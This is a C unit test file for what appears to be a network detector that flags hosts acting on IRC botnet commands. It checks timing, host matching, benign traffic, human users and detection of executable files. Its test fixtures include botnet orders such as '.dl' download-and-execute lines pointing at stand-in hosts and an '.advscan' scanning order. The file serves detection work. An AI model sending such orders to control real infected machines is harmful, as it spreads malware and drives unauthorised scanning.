/* SPDX-License-Identifier: GPL-3.0-or-later */
/* irc_control: an ordered URL and what is fetched then, by bots and by people. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>

#include <cmocka.h>

#include "detect/detector.h"
#include "talk.h"

#define ORDER_DL ":op!o@h PRIVMSG #x :.dl http://files.example/a/x.exe y.exe 1"

static void person(struct talk *t)
{
        static const char *const lines[] = {"hello everybody, nice to see you again",
                                            "did anybody watch the game last night", "no, my train was late again",
                                            "I will be back after lunch, see you"};

        for (size_t i = 0; i < ELEMENTSOF(lines); i++) {
                char line[200];

                snprintf(line, sizeof(line), "PRIVMSG #x :%s", lines[i]);
                talk_out(t, line);
                talk_wait(t, 20000);
        }
}

static void test_fetch(void **state)
{
        const struct evidence *e;
        struct talk t;

        (void) state;
        talk_begin(&t);
        talk_login(&t, "alice", "#x");
        talk_in(&t, ORDER_DL);
        assert_int_equal(talk_level(&t, t.host, NULL), LEVEL_UNKNOWN);
        talk_wait(&t, 2000);
        talk_fetch(&t, "198.51.100.9", "Files.example", "/a/x.exe");
        e = talk_kind(&t, "irc_control.executed");
        assert_non_null(e);
        assert_true(e->kind->conclusive);
        assert_string_equal(talk_text(e, "order"), ".dl http://files.example/a/x.exe y.exe 1");
        assert_string_equal(talk_text(e, "order_from"), "op");
        assert_string_equal(talk_text(e, "channel"), "#x");
        assert_int_equal(talk_number(e, "reaction"), 2 * NSEC_PER_SEC);
        assert_int_equal(talk_level(&t, t.host, NULL), LEVEL_BOT);
        /* not the operator's host, nor anybody else */
        assert_int_equal(talk_level(&t, "10.1.6.207", NULL), LEVEL_UNKNOWN);
        talk_end(&t);
}

static void test_fetch_of_another(void **state)
{
        static const struct {
                const char *host, *uri;
                long wait;
        } fetches[] = {{"files.example", "/a/x.exe", 121000},
                       {"other.example", "/a/x.exe", 1000},
                       {"files.example", "/a/x.exe2", 1000},
                       {"files.exampl", "/a/x.exe", 1000},
                       {"", "", 1000}};

        (void) state;
        for (size_t i = 0; i < ELEMENTSOF(fetches); i++) {
                struct talk t;

                talk_begin(&t);
                talk_login(&t, "alice", "#x");
                talk_in(&t, ORDER_DL);
                talk_wait(&t, fetches[i].wait);
                talk_fetch(&t, "198.51.100.9", fetches[i].host, fetches[i].uri);
                assert_null(talk_kind(&t, "irc_control.executed"));
                assert_true(talk_level(&t, t.host, NULL) != LEVEL_BOT);
                talk_end(&t);
        }
}

/* Anybody can "order" what everybody does anyway: a page, the web's ports, a secure connection. */
static void test_framed(void **state)
{
        struct event e = {.type = EVENT_TLS, .op = TLS_CLIENT_HELLO};
        struct talk t;

        (void) state;
        talk_begin(&t);
        talk_login(&t, "alice", "#x");
        talk_in(&t, ":op!o@h PRIVMSG #x :.dl http://portal.example/success.txt x.exe 1");
        talk_wait(&t, 1000);
        talk_fetch(&t, "198.51.100.9", "portal.example", "/success.txt");
        assert_null(talk_kind(&t, "irc_control.executed"));
        talk_in(&t, ":op!o@h PRIVMSG #x :.dl https://search.example/x.exe x.exe 1");
        e.time = t.now;
        e.tls.ends = talk_ends(&t, "198.51.100.9", 443, true);
        e.tls.sni = talk_slice("search.example");
        analysis_event(t.analysis, &e);
        assert_null(talk_kind(&t, "irc_control.executed"));
        talk_in(&t, ":op!o@h PRIVMSG #x :.advscan web 443 5 0 -r");
        talk_wait(&t, 1000);
        talk_sweep(&t, "198.51", 90, 443);
        assert_null(talk_kind(&t, "irc_control.executed"));
        assert_true(talk_level(&t, t.host, NULL) < LEVEL_BOT);
        talk_end(&t);
}

/* Somebody who writes may click on what he reads; that never makes a bot. */
static void test_person_clicks(void **state)
{
        struct talk t;

        (void) state;
        talk_begin(&t);
        talk_login(&t, "alice", "#x");
        person(&t);
        talk_in(&t, ORDER_DL);
        talk_wait(&t, 2000);
        talk_fetch(&t, "198.51.100.9", "files.example", "/a/x.exe");
        assert_null(talk_kind(&t, "irc_control.executed"));
        assert_true(talk_level(&t, t.host, NULL) < LEVEL_SUSPECT);
        talk_end(&t);
}

/* What has no program's name is one by its first bytes; over FTP its path's last part is known. */
static void test_program_by_content(void **state)
{
        static const struct {
                const char *order, *host, *name;
                uint8_t kind, how;
                bool executed;
        } cases[] = {
                {".dl http://files.example/a/x y.exe 1", "files.example", "/a/x", FILE_PE, FILE_HTTP, true},
                {".dl http://files.example/a/x y.exe 1", "files.example", "/a/x", FILE_TEXT, FILE_HTTP, false},
                {".dl http://files.example/a/x y.exe 1", "other.example", "/a/x", FILE_PE, FILE_HTTP, false},
                {".dl http://files.example y.exe 1 -s", "files.example", "/", FILE_ELF, FILE_HTTP, true},
                {".dl ftp://u:p@files.example/a/x y.exe 1", "", "x", FILE_PE, FILE_FTP, true},
                {".dl http://files.example/a/x y.exe 1", "", "x", FILE_PE, FILE_FTP, false},
        };

        (void) state;
        for (size_t i = 0; i < ELEMENTSOF(cases); i++) {
                struct event e = {.type = EVENT_FILE, .op = FILE_SEEN};
                char line[200];
                struct talk t;

                talk_begin(&t);
                talk_login(&t, "alice", "#x");
                snprintf(line, sizeof(line), ":op!o@h PRIVMSG #x :%s", cases[i].order);
                talk_in(&t, line);
                talk_wait(&t, 2000);
                e.time = t.now;
                e.file.ends = talk_ends(&t, "198.51.100.9", 80, false);
                e.file.kind = cases[i].kind;
                e.file.how = cases[i].how;
                e.file.name = talk_slice(cases[i].name);
                e.file.host = talk_slice(cases[i].host);
                e.file.size = UINT64_MAX;
                analysis_event(t.analysis, &e);
                if ((talk_kind(&t, "irc_control.executed") != NULL) != cases[i].executed)
                        fail_msg("%s: %s", cases[i].order, cases[i].name);
                talk_end(&t);
        }
}

int main(void)
{
        const struct CMUnitTest tests[] = {cmocka_unit_test(test_fetch), cmocka_unit_test(test_fetch_of_another),
                                           cmocka_unit_test(test_framed), cmocka_unit_test(test_person_clicks),
                                           cmocka_unit_test(test_program_by_content)};

        return cmocka_run_group_tests(tests, NULL, NULL);
}
